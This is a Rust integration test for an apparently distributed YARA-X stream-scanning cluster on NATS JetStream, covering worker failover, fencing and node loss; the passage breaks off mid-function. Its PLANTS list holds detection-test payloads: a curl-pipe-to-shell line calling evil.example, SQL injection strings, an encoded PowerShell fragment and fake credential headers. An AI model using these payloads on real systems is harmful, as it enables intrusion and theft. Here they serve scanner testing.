//! The cluster end to end: a real three-node JetStream cluster of
//! `nats-server` on loopback (started and stopped here, stores in
//! temporary folders), in-process workers, a producer sending a few
//! thousand interleaved streams, and a fault in the middle: a worker
//! killed, a worker joining, a worker process paused past its lease, a
//! NATS node killed.
//!
//! What must hold: every verdict equals a whole-buffer YARA-X scan of its
//! stream, each appears exactly once on the verdict stream, and the killed
//! worker's partitions were taken over (counted: takeovers and replayed
//! messages, or the test fails). Garbage on the input subjects is counted
//! and skipped.
//!
//! The worker-kill, worker-join and gateway tests spread the partitions
//! over two input streams; the others keep one.
//!
//! Skipped, with a message, when `nats-server` is not installed; failed
//! then when `YARAFLOW_REQUIRE_NATS` is set (`.ci/run` sets it).

#![cfg(feature = "cluster")]

mod common;

use std::collections::HashMap;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use bytes::Bytes;
use futures_util::StreamExt;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use tokio::sync::oneshot;
use yaraflow::cluster::{self, ClusterConfig, Producer, Worker, WorkerStats, WorkerStatsSnapshot};
use yaraflow::{RuleSet, ScannerConfig, Uuid};

const STREAMS: usize = 2000;
const OPEN_AT_ONCE: usize = 150;
const PARTITIONS: u32 = 16;

/// The tests run one at a time: each starts three nats-server processes
/// and several workers, and together they starve a two-core machine into
/// timeouts that are not the cluster's.
static ONE_AT_A_TIME: std::sync::Mutex<()> = std::sync::Mutex::new(());

/// The input streams of the deployment of the test now running: set by
/// [`one_at_a_time`] (the tests run one at a time), read by [`config`].
static INPUT_STREAMS: AtomicU32 = AtomicU32::new(1);

/// Waits for the other tests, then sets this one's input stream count.
fn one_at_a_time(input_streams: u32) -> std::sync::MutexGuard<'static, ()> {
    let guard = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    INPUT_STREAMS.store(input_streams, Ordering::SeqCst);
    guard
}

/// Whether nats-server is installed (see the module docs).
fn nats_installed() -> bool {
    common::tool_installed("nats-server", "YARAFLOW_REQUIRE_NATS", "the cluster tests")
}

/// Three nats-server processes forming one JetStream cluster; killed on
/// drop.
struct NatsCluster {
    nodes: Vec<Child>,
    client_ports: Vec<u16>,
    _dir: tempfile::TempDir,
}

impl NatsCluster {
    fn start() -> NatsCluster {
        let dir = common::store_dir();
        let client_ports: Vec<u16> = (0..3).map(|_| common::free_port()).collect();
        let route_ports: Vec<u16> = (0..3).map(|_| common::free_port()).collect();
        let nodes = (0..3)
            .map(|n| Self::node(dir.path(), n, &client_ports, &route_ports))
            .collect();
        NatsCluster {
            nodes,
            client_ports,
            _dir: dir,
        }
    }

    fn node(dir: &Path, n: usize, clients: &[u16], routes: &[u16]) -> Child {
        let others: Vec<String> = (0..3)
            .filter(|&m| m != n)
            .map(|m| format!("\"nats-route://127.0.0.1:{}\"", routes[m]))
            .collect();
        let config = format!(
            "server_name: n{n}\nlisten: 127.0.0.1:{}\n\
             jetstream {{ store_dir: \"{}\", max_memory_store: 64MB, max_file_store: 1GB }}\n\
             cluster {{ name: yf, listen: 127.0.0.1:{}, routes: [{}] }}\n",
            clients[n],
            dir.join(format!("n{n}")).display(),
            routes[n],
            others.join(", ")
        );
        let path = dir.join(format!("n{n}.conf"));
        std::fs::write(&path, config).unwrap();
        Command::new("nats-server")
            .arg("-c")
            .arg(&path)
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(dir.join(format!("n{n}.log"))).unwrap())
            .spawn()
            .expect("nats-server starts")
    }

    /// SIGKILLs node `n`.
    fn kill(&mut self, n: usize) {
        let _ = self.nodes[n].kill();
        let _ = self.nodes[n].wait();
    }

    fn url(&self, n: usize) -> String {
        format!("nats://127.0.0.1:{}", self.client_ports[n])
    }
}

impl Drop for NatsCluster {
    fn drop(&mut self) {
        for node in &mut self.nodes {
            let _ = node.kill();
            let _ = node.wait();
        }
    }
}

fn config() -> ClusterConfig {
    ClusterConfig {
        partitions: PARTITIONS,
        input_streams: INPUT_STREAMS.load(Ordering::SeqCst),
        replicas: 3,
        lease_ttl: Duration::from_secs(2),
        checkpoint_interval: Duration::from_secs(1),
        // The least: a partition with open streams checkpoints to the
        // object store, an empty one inline, so both ways are tested.
        inline_checkpoint_bytes: 1024,
        events: true,
        ..ClusterConfig::default()
    }
}

fn rules() -> RuleSet {
    RuleSet::from_paths(&["data/rules"], ScannerConfig::default().max_pattern_len).unwrap()
}

/// A worker on its own thread (its loop is not `Send`), stopped cleanly
/// or killed: a kill drops its loop where it stands, as a crash would.
struct RunningWorker {
    stats: Arc<WorkerStats>,
    stop: Option<oneshot::Sender<()>>,
    kill: Option<oneshot::Sender<()>>,
    thread: Option<std::thread::JoinHandle<Option<WorkerStatsSnapshot>>>,
}

impl RunningWorker {
    fn start(url: String) -> RunningWorker {
        let worker = Worker::new(rules(), config(), ScannerConfig::default()).unwrap();
        let stats = worker.stats();
        let (stop, stopped) = oneshot::channel::<()>();
        let (kill, killed) = oneshot::channel::<()>();
        let thread = std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            runtime.block_on(async move {
                let client = cluster::connect(&url).await.unwrap();
                let run = worker.run(client, async move {
                    let _ = stopped.await;
                });
                tokio::select! {
                    report = run => Some(report.unwrap()),
                    _ = killed => None,
                }
            })
        });
        RunningWorker {
            stats,
            stop: Some(stop),
            kill: Some(kill),
            thread: Some(thread),
        }
    }

    fn kill(&mut self) {
        let _ = self.kill.take().unwrap().send(());
        self.thread.take().unwrap().join().unwrap();
    }

    fn stop(&mut self) -> WorkerStatsSnapshot {
        let _ = self.stop.take().unwrap().send(());
        self.thread.take().unwrap().join().unwrap().unwrap()
    }
}

/// Text the bundled rules look for, planted in the streams.
const PLANTS: &[&[u8]] = &[
    b"Authorization: Basic YWRtaW46aHVudGVyMg==\r\n",
    b"curl -s http://evil.example/x.sh | sh\n",
    b"id=1 UNION SELECT password FROM users",
    b"user=' or '1'='1",
    b"-----BEGIN RSA PRIVATE KEY-----\nMIIE",
    b"powershell -enc SQBFAFgA ",
];

/// A stream of 500 to 6000 bytes: printable filler with a few plants
/// (sometimes the EICAR string at offset 0).
fn stream_data(rng: &mut StdRng) -> Vec<u8> {
    let len = rng.gen_range(500..6000);
    let mut data = Vec::with_capacity(len + 100);
    if rng.gen_ratio(1, 20) {
        data.extend_from_slice(&std::fs::read("data/samples/eicar.com").unwrap());
    }
    while data.len() < len {
        if rng.gen_ratio(1, 8) {
            data.extend_from_slice(PLANTS[rng.gen_range(0..PLANTS.len())]);
        } else {
            let n = rng.gen_range(10..200);
            data.extend((0..n).map(|_| rng.gen_range(b' '..=b'~')));
        }
    }
    data
}

/// Chunks of 1 to 1500 bytes.
fn chunks(data: &[u8], rng: &mut StdRng) -> Vec<Bytes> {
    let mut out = Vec::new();
    let mut at = 0;
    while at < data.len() {
        let end = (at + rng.gen_range(1..1500)).min(data.len());
        out.push(Bytes::copy_from_slice(&data[at..end]));
        at = end;
    }
    out
}

/// Publishes `streams` interleaved, `OPEN_AT_ONCE` open at a time, one
/// chunk of each open stream in turn; once half of them are closed, it
/// says so on `reached` and waits for `resume` before going on.
async fn produce(
    producer: &mut Producer,
    streams: &[(Uuid, Vec<u8>)],
    seed: u64,
    reached: std::sync::mpsc::Sender<()>,
    resume: tokio::sync::oneshot::Receiver<()>,
) {
    let mut gate = Some((reached, resume));
    let mut rng = StdRng::seed_from_u64(seed);
    let mut pending = streams.iter();
    let mut open: Vec<(Uuid, std::vec::IntoIter<Bytes>)> = Vec::new();
    let mut closed = 0;
    loop {
        while open.len() < OPEN_AT_ONCE {
            let Some((id, data)) = pending.next() else {
                break;
            };
            open.push((*id, chunks(data, &mut rng).into_iter()));
        }
        if open.is_empty() {
            break;
        }
        let mut still = Vec::with_capacity(open.len());
        for (id, mut rest) in open {
            match rest.next() {
                Some(chunk) => {
                    producer.chunk(id, chunk).await.unwrap();
                    still.push((id, rest));
                }
                None => {
                    producer.close(id).await.unwrap();
                    closed += 1;
                    if closed == streams.len() / 2 {
                        if let Some((reached, resume)) = gate.take() {
                            let _ = reached.send(());
                            let _ = resume.await;
                        }
                    }
                }
            }
        }
        open = still;
    }
    producer.flush().await.unwrap();
}

/// Publishes garbage straight onto partition subjects: a payload that is
/// not a message, and a message on another partition than its stream's.
async fn publish_garbage(client: &async_nats::Client, config: &ClusterConfig) {
    let js = async_nats::jetstream::new(client.clone());
    let garbage = Bytes::from_static(b"this is not a yaraflow message");
    js.publish(config.input_subject(3), garbage)
        .await
        .unwrap()
        .await
        .unwrap();
    let partitioner = cluster::Partitioner::new(config.partitions).unwrap();
    let stream = Uuid::new_v4();
    let wrong = (partitioner.partition_of(&stream) + 1) % config.partitions;
    let message = cluster::Message {
        kind: cluster::MessageKind::Chunk,
        stream,
        data: Bytes::from_static(b"misrouted"),
    };
    js.publish(config.input_subject(wrong), message.encode())
        .await
        .unwrap()
        .await
        .unwrap();
}

/// Waits until JetStream has a meta leader and the R3 objects exist; an
/// error after 20 s.
async fn ensure_objects(url: &str) -> Result<async_nats::Client, cluster::ClusterError> {
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let attempt = async {
            let client = cluster::connect(url).await?;
            cluster::ensure_cluster(&client, &config()).await?;
            Ok::<_, cluster::ClusterError>(client)
        };
        match attempt.await {
            Ok(client) => return Ok(client),
            Err(err) if Instant::now() < deadline => {
                eprintln!("cluster not ready yet: {err}");
                tokio::time::sleep(Duration::from_millis(500)).await;
            }
            Err(err) => return Err(err),
        }
    }
}

/// Puts an object in every partition's checkpoint name space that no
/// checkpoint entry points at, as a worker that crashed between writing
/// a checkpoint object and its entry leaves.
async fn plant_orphan_objects(client: &async_nats::Client) {
    let config = config();
    let js = async_nats::jetstream::new(client.clone());
    let store = js
        .get_object_store(config.checkpoint_object_bucket())
        .await
        .unwrap();
    for partition in 0..PARTITIONS {
        let mut data: &[u8] = b"an orphan checkpoint object";
        store
            .put(format!("p.{partition}.orphan").as_str(), &mut data)
            .await
            .unwrap();
    }
}

/// A three-node cluster with its objects. Started again, on fresh ports,
/// when it does not form: another process can take a port between
/// `free_port` and the server's bind, and two nodes cannot place R3.
fn ready_cluster(runtime: &tokio::runtime::Runtime) -> (NatsCluster, async_nats::Client) {
    for attempt in 1..=3 {
        let nats = NatsCluster::start();
        match runtime.block_on(ensure_objects(&nats.url(0))) {
            Ok(client) => return (nats, client),
            Err(err) => eprintln!("cluster attempt {attempt} did not form: {err}"),
        }
    }
    panic!("the cluster never formed in three attempts");
}

fn owned(workers: &[&RunningWorker]) -> u64 {
    workers.iter().map(|w| w.stats.snapshot().owned).sum()
}

fn wait_until(what: &str, limit: Duration, mut done: impl FnMut() -> bool) {
    let deadline = Instant::now() + limit;
    while !done() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Reads every verdict on the verdict stream once `expected` are there
/// (and a second more, for duplicates to show).
async fn read_verdicts(client: &async_nats::Client, expected: usize) -> Vec<serde_json::Value> {
    // After a node's death, JetStream elects leaders again before the run
    // goes on, which takes longer on a loaded machine: a lost verdict never
    // arrives, however long the wait.
    let deadline = Instant::now() + Duration::from_secs(120);
    let config = config();
    let js = async_nats::jetstream::new(client.clone());
    loop {
        // A request can time out while JetStream elects leaders after a
        // node's death: ask again.
        let stream = match js.get_stream(config.verdict_stream()).await {
            Ok(stream) => stream,
            Err(err) if Instant::now() < deadline => {
                eprintln!("cannot read the verdict stream yet: {err}");
                tokio::time::sleep(Duration::from_millis(500)).await;
                continue;
            }
            Err(err) => panic!("cannot read the verdict stream: {err}"),
        };
        if stream.cached_info().state.messages as usize >= expected {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "{} verdicts of {expected} after 120 s",
            stream.cached_info().state.messages
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    // A consumer needs JetStream's meta leader, elected again for a few
    // seconds after a node dies (longer on a loaded machine): the reading
    // has a minute of its own, whatever the wait for the count took.
    let deadline = Instant::now() + Duration::from_secs(60);
    let verdicts = loop {
        match cluster::verdicts(client, &config).await {
            Ok(verdicts) => break verdicts,
            Err(err) if Instant::now() < deadline => {
                eprintln!("cannot read the verdicts yet: {err}");
                tokio::time::sleep(Duration::from_millis(500)).await;
            }
            Err(err) => panic!("cannot read the verdicts: {err}"),
        }
    };
    let total = verdicts.published as usize;
    let lines: Vec<_> = verdicts.stream.take(total).collect().await;
    lines
        .into_iter()
        .map(|line| serde_json::from_slice(&line.unwrap().0).unwrap())
        .collect()
}

/// The producer stopped halfway through a load, waiting for the test.
struct Halfway {
    reached: std::sync::mpsc::Receiver<()>,
    resume: tokio::sync::oneshot::Sender<()>,
}

impl Halfway {
    /// Blocks until half of the load's streams are closed.
    fn wait(&self) {
        self.reached.recv().expect("the producer reaches halfway");
    }

    /// Lets the producer publish the rest.
    fn resume(self) {
        let _ = self.resume.send(());
    }
}

/// The streams of a run and the verdict each must get.
struct Load {
    rules: RuleSet,
    streams: Vec<(Uuid, Vec<u8>)>,
    expected: HashMap<Uuid, common::Verdict>,
}

impl Load {
    fn new(seed: u64) -> Load {
        let mut rng = StdRng::seed_from_u64(seed);
        let streams: Vec<(Uuid, Vec<u8>)> = (0..STREAMS)
            .map(|_| (Uuid::from_u128(rng.gen()), stream_data(&mut rng)))
            .collect();
        let rules = rules();
        let expected: HashMap<Uuid, common::Verdict> = streams
            .iter()
            .map(|(id, data)| (*id, common::reference(&rules, data)))
            .collect();
        let matching = expected.values().filter(|v| !v.is_empty()).count();
        assert!(
            matching > STREAMS / 2,
            "only {matching} streams match a rule"
        );
        Load {
            rules,
            streams,
            expected,
        }
    }

    /// Publishes the load (after some garbage) on its own task, which
    /// stops halfway until told to go on (see [`Halfway`]), so that a
    /// test's fault always lands with half of the load still to come,
    /// however fast the machine. The task gives the number of messages
    /// published.
    fn produce(
        &self,
        runtime: &tokio::runtime::Runtime,
        client: &async_nats::Client,
    ) -> (tokio::task::JoinHandle<u64>, Halfway) {
        let (reached_tx, reached) = std::sync::mpsc::channel::<()>();
        let (resume, resume_rx) = tokio::sync::oneshot::channel::<()>();
        let client = client.clone();
        let streams = self.streams.clone();
        let task = runtime.spawn(async move {
            publish_garbage(&client, &config()).await;
            let mut producer = Producer::new(client, config(), 256).await.unwrap();
            produce(&mut producer, &streams, 7, reached_tx, resume_rx).await;
            producer.published()
        });
        (task, Halfway { reached, resume })
    }

    /// Every stream's verdict is on the verdict stream exactly once and
    /// equals a whole-buffer YARA-X scan.
    fn check_verdicts(
        &self,
        runtime: &tokio::runtime::Runtime,
        client: &async_nats::Client,
    ) -> Vec<serde_json::Value> {
        let verdicts = runtime.block_on(read_verdicts(client, STREAMS));
        let mut seen: HashMap<Uuid, usize> = HashMap::new();
        for verdict in &verdicts {
            let id: Uuid = verdict["stream"].as_str().unwrap().parse().unwrap();
            *seen.entry(id).or_default() += 1;
            assert!(verdict.get("error").is_none(), "{verdict}");
            let want = self
                .expected
                .get(&id)
                .unwrap_or_else(|| panic!("a verdict for unknown stream {id}"));
            assert_eq!(&common::printed(&self.rules, verdict), want, "stream {id}");
        }
        let twice: Vec<_> = seen.iter().filter(|(_, n)| **n > 1).collect();
        assert!(
            twice.is_empty(),
            "verdicts published more than once: {twice:?}"
        );
        assert_eq!(seen.len(), STREAMS, "streams with a verdict");
        assert_eq!(verdicts.len(), STREAMS, "verdict messages");
        verdicts
    }

    /// Every rule of every verdict has exactly one match event (a replay
    /// publishes none twice), and events name only the load's streams.
    /// Events seen mid-stream and at close must both happen.
    fn check_events(
        &self,
        runtime: &tokio::runtime::Runtime,
        client: &async_nats::Client,
        verdicts: &[serde_json::Value],
    ) {
        let events = runtime.block_on(read_events(client));
        let mut seen: HashMap<(Uuid, String), usize> = HashMap::new();
        let (mut mid_stream, mut at_close) = (0, 0);
        for event in &events {
            let id: Uuid = event["stream"].as_str().unwrap().parse().unwrap();
            assert!(
                self.expected.contains_key(&id),
                "an event of unknown stream {id}"
            );
            let rule = event["rule"].as_str().unwrap().to_string();
            *seen.entry((id, rule)).or_default() += 1;
            match event["at_close"].as_bool().unwrap() {
                true => at_close += 1,
                false => mid_stream += 1,
            }
        }
        let twice: Vec<_> = seen.iter().filter(|(_, n)| **n > 1).collect();
        assert!(
            twice.is_empty(),
            "events published more than once: {twice:?}"
        );
        let mut in_verdicts = 0;
        for verdict in verdicts {
            let id: Uuid = verdict["stream"].as_str().unwrap().parse().unwrap();
            for rule in verdict["rules"].as_array().unwrap() {
                let rule = rule["identifier"].as_str().unwrap().to_string();
                assert!(
                    seen.contains_key(&(id, rule.clone())),
                    "no event of {rule} on {id}"
                );
                in_verdicts += 1;
            }
        }
        eprintln!(
            "{} events ({mid_stream} mid-stream, {at_close} at close) for {in_verdicts} rules in verdicts",
            events.len()
        );
        assert!(
            mid_stream > 0 && at_close > 0,
            "{mid_stream} mid-stream and {at_close} at-close events"
        );
    }
}

/// Every input stream of the test's deployment holds messages: the
/// partitions were really spread over them.
fn check_every_input_stream_used(runtime: &tokio::runtime::Runtime, client: &async_nats::Client) {
    runtime.block_on(async {
        let js = async_nats::jetstream::new(client.clone());
        for (name, _) in config().input_streams() {
            let stream = js.get_stream(&name).await.unwrap();
            let messages = stream.cached_info().state.messages;
            eprintln!("input stream {name}: {messages} messages");
            assert!(messages > 0, "input stream {name} holds no message");
        }
    });
}

/// The match events published, once their count holds still for a second.
async fn read_events(client: &async_nats::Client) -> Vec<serde_json::Value> {
    let config = config();
    let js = async_nats::jetstream::new(client.clone());
    let mut last = u64::MAX;
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let count = match js.get_stream(config.event_stream()).await {
            Ok(stream) => stream.cached_info().state.messages,
            Err(err) => {
                eprintln!("cannot read the event stream yet: {err}");
                u64::MAX
            }
        };
        if count == last || Instant::now() > deadline {
            break;
        }
        last = count;
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    let events = cluster::published(client, &config, cluster::Output::Events)
        .await
        .unwrap();
    let total = events.published as usize;
    let lines: Vec<_> = events.stream.take(total).collect().await;
    lines
        .into_iter()
        .map(|line| serde_json::from_slice(&line.unwrap().0).unwrap())
        .collect()
}

/// A cluster, its objects and `workers` in-process workers owning every
/// partition.
fn cluster_with_workers(
    workers: usize,
) -> (
    NatsCluster,
    tokio::runtime::Runtime,
    async_nats::Client,
    Vec<RunningWorker>,
) {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let (nats, client) = ready_cluster(&runtime);
    let workers: Vec<RunningWorker> = (0..workers)
        .map(|n| RunningWorker::start(nats.url(n % 3)))
        .collect();
    wait_until("every partition owned", Duration::from_secs(20), || {
        owned(&workers.iter().collect::<Vec<_>>()) == u64::from(PARTITIONS)
    });
    (nats, runtime, client, workers)
}

fn total(stats: &[WorkerStatsSnapshot], field: fn(&WorkerStatsSnapshot) -> u64) -> u64 {
    stats.iter().map(field).sum()
}

#[test]
fn three_workers_lose_nothing_and_duplicate_nothing_when_one_is_killed() {
    if !nats_installed() {
        return;
    }
    let _serial = one_at_a_time(2);
    let began = Instant::now();
    let (_nats, runtime, client, mut workers) = cluster_with_workers(3);
    eprintln!("cluster up, partitions owned, after {:?}", began.elapsed());
    let load = Load::new(18);

    let killed_owned = workers[0].stats.snapshot().owned;
    let (producing, halfway) = load.produce(&runtime, &client);
    halfway.wait();
    // Objects a crashed writer would leave: the takeovers sweep them.
    runtime.block_on(plant_orphan_objects(&client));
    // So that the takeovers start from checkpoints in objects.
    wait_until(
        "worker 0 checkpoints its open streams",
        Duration::from_secs(20),
        || workers[0].stats.snapshot().checkpoint_objects > 0,
    );
    let before_kill = workers[0].stats.snapshot();
    workers[0].kill();
    let killed_at = Instant::now();
    halfway.resume();
    eprintln!(
        "killed worker 0 holding {} partitions, {} messages applied, {} checkpoints",
        before_kill.owned, before_kill.applied, before_kill.checkpoints
    );
    let published = runtime.block_on(producing).unwrap();
    let survivors: Vec<&RunningWorker> = workers[1..].iter().collect();
    wait_until(
        "the killed worker's partitions taken over",
        Duration::from_secs(20),
        || owned(&survivors) == u64::from(PARTITIONS),
    );
    eprintln!(
        "partitions all owned again {:?} after the kill",
        killed_at.elapsed()
    );
    let verdicts = load.check_verdicts(&runtime, &client);
    check_every_input_stream_used(&runtime, &client);
    load.check_events(&runtime, &client, &verdicts);

    let after: Vec<WorkerStatsSnapshot> = workers[1..].iter_mut().map(|w| w.stop()).collect();
    let sum = |f: fn(&WorkerStatsSnapshot) -> u64| total(&after, f);
    let takeovers = sum(|s| s.takeovers);
    let replayed = sum(|s| s.replayed);
    eprintln!(
        "{published} messages published; killed worker held {killed_owned} partitions at start, {} at the kill ({} of its checkpoints objects); survivors: {takeovers} takeovers, {replayed} messages replayed, {} applied, {} checkpoints ({} objects, last {} bytes), {} orphan objects swept, {} bad and {} misrouted messages skipped; {} s in all",
        before_kill.owned,
        before_kill.checkpoint_objects,
        sum(|s| s.applied),
        sum(|s| s.checkpoints),
        sum(|s| s.checkpoint_objects),
        after.iter().map(|s| s.checkpoint_bytes).max().unwrap_or(0),
        sum(|s| s.objects_swept),
        sum(|s| s.bad_messages),
        sum(|s| s.misrouted),
        began.elapsed().as_secs_f64()
    );
    assert!(
        before_kill.owned > 0,
        "the killed worker owned no partition"
    );
    assert!(
        before_kill.checkpoint_objects > 0,
        "the killed worker wrote no checkpoint object: takeovers from objects were not tested"
    );
    assert!(
        sum(|s| s.checkpoints) > sum(|s| s.checkpoint_objects),
        "no checkpoint was inline"
    );
    for (n, stats) in after.iter().enumerate() {
        eprintln!("survivor {n}'s last problem: {:?}", stats.last_problem);
    }
    // Each takeover sweeps within a lease; on a loaded machine one may
    // run out of it (counted as a problem, swept at the next takeover).
    assert!(
        sum(|s| s.objects_swept) > 0,
        "no orphan object swept by {takeovers} takeovers"
    );
    assert!(takeovers >= before_kill.owned, "{takeovers} takeovers");
    assert!(
        replayed > 0,
        "no message was replayed: the takeover was not tested"
    );
    // Counted once, or twice when the killed worker had applied it but not
    // checkpointed past it.
    let bad = sum(|s| s.bad_messages) + workers[0].stats.snapshot().bad_messages;
    let misrouted = sum(|s| s.misrouted) + workers[0].stats.snapshot().misrouted;
    assert!((1..=2).contains(&bad), "{bad} bad messages counted");
    assert!(
        (1..=2).contains(&misrouted),
        "{misrouted} misrouted messages counted"
    );
}

/// A worker that joins while the load runs takes its share of the
/// partitions from the others (handed over with a checkpoint), and the
/// verdicts stay exact and unique.
#[test]
fn a_worker_joining_mid_run_takes_its_share() {
    if !nats_installed() {
        return;
    }
    let _serial = one_at_a_time(2);
    let (nats, runtime, client, mut workers) = cluster_with_workers(2);
    let load = Load::new(19);
    let (producing, halfway) = load.produce(&runtime, &client);
    halfway.wait();
    workers.push(RunningWorker::start(nats.url(2)));
    let share = newcomer_share(3);
    wait_until("the newcomer's share", Duration::from_secs(30), || {
        workers[2].stats.snapshot().owned >= share
    });
    halfway.resume();
    let published = runtime.block_on(producing).unwrap();
    let verdicts = load.check_verdicts(&runtime, &client);
    check_every_input_stream_used(&runtime, &client);
    load.check_events(&runtime, &client, &verdicts);

    let newcomer_owned = workers[2].stats.snapshot().owned;
    let after: Vec<WorkerStatsSnapshot> = workers.iter_mut().map(|w| w.stop()).collect();
    eprintln!(
        "{published} messages published; the newcomer owned {newcomer_owned} partitions ({} claims, {} handed over), applied {} messages; the first two released {} partitions",
        after[2].claims,
        after[2].handoffs,
        after[2].applied,
        after[0].releases + after[1].releases
    );
    assert!(after[2].handoffs >= share, "{} handoffs", after[2].handoffs);
    assert!(after[0].releases + after[1].releases >= share);
    assert!(after[2].applied > 0, "the newcomer applied nothing");
    assert_eq!(total(&after, |s| s.lost), 0, "a partition was lost");
}

/// A worker process paused (SIGSTOP) past its lease loses its partitions
/// to the others; resumed (SIGCONT), it finds its leases expired and drops
/// them instead of applying them (fencing): nothing lost, nothing
/// duplicated, and the paused worker says it dropped them.
#[test]
fn a_worker_paused_past_its_lease_is_fenced() {
    if !nats_installed() {
        return;
    }
    let _serial = one_at_a_time(1);
    let (nats, runtime, client, mut workers) = cluster_with_workers(2);
    let log = common::store_dir();
    let log_path = log.path().join("worker.log");
    let metrics_listen = format!("127.0.0.1:{}", common::free_port());
    let mut paused = Command::new(env!("CARGO_BIN_EXE_yaraflow"))
        .args(["worker", "--nats", &nats.url(2), "--partitions"])
        .arg(PARTITIONS.to_string())
        .args([
            "--replicas",
            "3",
            "--lease",
            "2s",
            "--status-every",
            "500ms",
        ])
        .args(["--metrics-listen", &metrics_listen])
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(&log_path).unwrap())
        .spawn()
        .expect("yaraflow worker starts");
    let share = newcomer_share(3);
    wait_until(
        "the worker process's share",
        Duration::from_secs(30),
        || owned(&workers.iter().collect::<Vec<_>>()) <= u64::from(PARTITIONS) - share,
    );
    let load = Load::new(20);
    let (producing, halfway) = load.produce(&runtime, &client);
    halfway.wait();
    signal(&paused, "STOP");
    halfway.resume();
    wait_until(
        "the paused worker's partitions taken over",
        Duration::from_secs(30),
        || owned(&workers.iter().collect::<Vec<_>>()) == u64::from(PARTITIONS),
    );
    // Let the survivors apply past where the paused worker stood.
    std::thread::sleep(Duration::from_secs(1));
    signal(&paused, "CONT");
    let published = runtime.block_on(producing).unwrap();
    load.check_verdicts(&runtime, &client);

    check_worker_metrics(&metrics_listen);
    signal(&paused, "TERM");
    assert!(
        paused.wait().unwrap().success(),
        "the worker process ends cleanly"
    );
    let text = std::fs::read_to_string(&log_path).unwrap();
    let last = text
        .lines()
        .rev()
        .find_map(|line| line.strip_prefix("stopped: "))
        .unwrap_or_else(|| panic!("no final status in the worker's log:\n{text}"));
    let stopped: serde_json::Value = serde_json::from_str(last).unwrap();
    let after: Vec<WorkerStatsSnapshot> = workers.iter_mut().map(|w| w.stop()).collect();
    eprintln!(
        "{published} messages published; the paused worker: {stopped}; the others took over {} partitions",
        total(&after, |s| s.takeovers)
    );
    assert!(
        stopped["lost"].as_u64().unwrap() >= share,
        "the resumed worker did not drop its expired partitions: {stopped}"
    );
    assert!(total(&after, |s| s.takeovers) >= share);
}

/// `yaraflow pcap --nats` publishes every direction of two captures to
/// the cluster; the workers' verdicts equal `yaraflow pcap --no-objects`
/// scanning the same captures here, direction by direction.
#[test]
fn pcap_published_to_the_cluster_gets_the_local_verdicts() {
    if !nats_installed() {
        return;
    }
    let _serial = one_at_a_time(1);
    let (nats, runtime, client, mut workers) = cluster_with_workers(2);
    let captures = [
        "data/pcap/http-loopback.pcapng",
        "data/pcap/lossy-link.pcap",
    ];
    let partitions = PARTITIONS.to_string();
    let mut publish = vec!["pcap", "--quiet", "--partitions", &partitions];
    let url = nats.url(1);
    publish.extend(["--replicas", "3", "--nats", &url]);
    publish.extend(captures);
    let published = common::run_yaraflow(&publish);
    assert!(published.status.success(), "{published:?}");
    let lines = common::json_lines(&published);
    let mut local = vec!["pcap", "--quiet", "--no-objects"];
    local.extend(captures);
    let local = common::run_yaraflow(&local);
    assert!(local.status.success(), "{local:?}");
    let rules_of = |verdict: &serde_json::Value| -> Vec<String> {
        let mut rules: Vec<String> = verdict["rules"]
            .as_array()
            .unwrap()
            .iter()
            .map(|r| r["identifier"].as_str().unwrap().to_string())
            .collect();
        rules.sort();
        rules
    };
    let expected: HashMap<String, (u64, Vec<String>)> = common::json_lines(&local)
        .iter()
        .map(|v| {
            let stream = v["stream"].as_str().unwrap().to_string();
            (stream, (v["bytes"].as_u64().unwrap(), rules_of(v)))
        })
        .collect();
    assert_eq!(lines.len(), expected.len(), "one line per direction");
    for line in &lines {
        assert!(
            expected.contains_key(line["stream"].as_str().unwrap()),
            "{line}"
        );
    }
    let verdicts = runtime.block_on(read_verdicts(&client, expected.len()));
    assert_eq!(verdicts.len(), expected.len(), "one verdict per direction");
    let mut matching = 0;
    for verdict in &verdicts {
        let stream = verdict["stream"].as_str().unwrap();
        let (bytes, rules) = &expected[stream];
        assert_eq!(verdict["bytes"].as_u64().unwrap(), *bytes, "{stream}");
        assert_eq!(&rules_of(verdict), rules, "{stream}");
        matching += usize::from(!rules.is_empty());
    }
    assert!(matching >= 4, "only {matching} directions match a rule");
    for worker in &mut workers {
        worker.stop();
    }
}

/// One NATS node SIGKILLed mid-run (a follower of the input stream, not
/// the node the producer talks to): R3 keeps going on the other two, the
/// worker connected to it reconnects to another (its quiet readers are
/// restarted), and every verdict stays exact and unique.
#[test]
fn one_nats_node_killed_mid_run_loses_nothing() {
    if !nats_installed() {
        return;
    }
    let _serial = one_at_a_time(1);
    let (mut nats, runtime, client, mut workers) = cluster_with_workers(3);
    let load = Load::new(21);
    let leader = runtime.block_on(async {
        let js = async_nats::jetstream::new(client.clone());
        let mut stream = js.get_stream(config().input_stream(0)).await.unwrap();
        let info = stream.info().await.unwrap();
        info.cluster
            .as_ref()
            .and_then(|c| c.leader.clone())
            .unwrap_or_default()
    });
    let victim = (1..3).find(|n| leader != format!("n{n}")).unwrap();
    let (producing, halfway) = load.produce(&runtime, &client);
    halfway.wait();
    nats.kill(victim);
    let killed_at = Instant::now();
    halfway.resume();
    let published = runtime.block_on(producing).unwrap();
    load.check_verdicts(&runtime, &client);
    let complete_after = killed_at.elapsed();
    let stopping = Instant::now();
    let after: Vec<WorkerStatsSnapshot> = workers.iter_mut().map(|w| w.stop()).collect();
    let stopped_in = stopping.elapsed();
    eprintln!(
        "{published} messages published; node n{victim} killed (input stream leader {leader}); every verdict {complete_after:?} after; the workers stopped in {stopped_in:?}; workers: {} partitions lost, {} taken over, {} messages replayed, last problems {:?}",
        total(&after, |s| s.lost),
